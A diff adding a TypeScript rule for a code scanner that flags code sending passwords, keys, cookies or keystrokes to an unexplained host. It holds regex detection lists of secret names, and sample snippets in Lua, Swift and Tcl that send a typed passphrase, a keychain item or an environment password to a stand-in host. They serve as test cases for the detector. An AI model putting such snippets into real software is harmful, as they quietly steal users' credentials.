@@ -1,0 +1,78 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { SENDS, TAKES_PRIVATE, TAKES_SECRETS, TAKES_SIGN_INS } from '../../signals/calls.ts'
+import { nearStrangers } from '../../signals/near-strangers.ts'
+import { worded } from '../../wording.ts'
+import { regex } from '../../patterns/verbose.ts'
+
+/** Names under which programs keep what opens accounts, or what a person types and copies. */
+const SECRETS = worded(
+  regex`
+    passw(?:or)?d|passphrase|inputsecret|\bsecrets?\b|keychain|\bsecitem|credential|keystore|
+    keyalias|document\.cookie|\bcookies?\b|clipboard|keydown|keypress|\bkeylog|\/etc\/shadow|
+    \bauth(?:_?token|tok)\b|id_rsa|\.ssh\b|\.aws\b|private_?key|\benviron\b|hostvars|\bcvv|
+    \b\w{2,30}_(?:token|secret|basic|apikey|api_key)\b
+  `,
+)
+
+/** Something is handed over, whatever the language calls it. */
+const HANDS_OVER = worded(
+  regex`
+    \bpost|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|sendbeacon|
+    httpbody|requestbody|\bpublish|\bbody\b|\bsend\b
+  `,
+)
+
+/** Not what a request signs in with at the address itself. */
+const SIGN_IN = /["']?(?:authorization|x-api-key|api-?key|bearer|-u)\b["']?[^\n]{0,120}/g
+
+/** It goes on whether it worked or not, and says nothing of it. */
+const UNHEARD =
+  /\/dev\/null|catch\s?\(?\s?\(?\w{0,6}\)?\s?(?:=>|\{\s?\})|except\b[^\n]{0,30}:\s{0,20}pass|rescue _|#'ignore|-silent|quiet|detach/
+
+export default defineRule({
+  id: 'stranger-near-secrets',
+  since: 1,
+  category: 'exfiltration',
+  severity: 'high',
+  confidence: 'high',
+  cwe: 'CWE-201',
+  title: 'Code that handles secrets speaks to an unexplained host',
+  description:
+    'In one piece of code stand the names of passwords, keys or what a person types, a call that hands something over, and an address that the text gives no reason for.',
+  remediation: 'Say who runs the host and what is sent there, or remove the call.',
+  harmlessIf: 'the secret is only what one signs in with at that very host',
+  needs: [],
+  examples: {
+    fires: [
+      '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
+      '```swift\nSecItemCopyMatching(query as CFDictionary, &out)\nvar r = URLRequest(url: URL(string: "https://in.larch-quay.net/k")!)\nr.httpBody = Data("\\(out!)".utf8)\n```\n',
+      '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
+    ],
+    quiet: [
+      '```swift\nvar r = URLRequest(url: URL(string: "https://api.larch-quay.net/v1/rows")!)\nr.httpMethod = "POST"\nr.httpBody = rows\n```\n',
+      '```kotlin\nRequest.Builder().url("https://api.github.com/gists").header("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}").post(body)\n```\n',
+      '```lua\nlocal v = vim.fn.inputsecret("Passphrase: ")\nvim.system({ "gpg", "--batch", "--passphrase", v, "-d", "notes.gpg" })\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    let last = -1
+    for (const { start, end, around } of nearStrangers(document, SECRETS, HANDS_OVER)) {
+      // One finding for a piece of code is enough, and rules that know its language say more.
+      if (start - last < AROUND_MAX && last >= 0) continue
+      if (!SECRETS.test(around.replace(SIGN_IN, ' ')) || isKnown(around)) continue
+      last = end
+      yield UNHEARD.test(around)
+        ? { start, end, severity: 'crit', firm: true }
+        : { start, end, firm: true }
+    }
+  },
+})
+
+/** Characters between two findings. */
+const AROUND_MAX = 1000
+
+const TAKES = [TAKES_SECRETS, TAKES_PRIVATE, TAKES_SIGN_INS]
+
+const isKnown = (code: string): boolean =>
+  code.search(SENDS) >= 0 && TAKES.some((takes) => code.search(takes) >= 0)
